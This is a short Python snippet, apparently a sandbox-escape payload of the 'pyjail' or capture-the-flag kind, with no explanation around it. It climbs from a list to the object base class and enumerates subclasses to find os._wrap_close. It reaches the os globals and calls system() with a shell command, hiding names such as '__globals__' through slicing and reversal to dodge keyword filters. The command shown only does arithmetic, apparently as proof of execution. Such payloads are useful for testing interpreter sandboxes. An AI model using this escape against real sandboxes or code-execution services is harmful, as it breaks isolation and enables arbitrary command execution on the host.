o=[]
for part in ["xx__class__","xx__base__"]:
    o=getattr(o,part[2:])
import random
n="".join(sorted("__subclasses__",key=lambda c:0))
subs=getattr(o,n)()
w=[c for c in subs if c.__name__=="_wrap_close"][0]
getattr(w.close,"".join(reversed("__slabolg__")))["system"]("expr 40 + 1001")
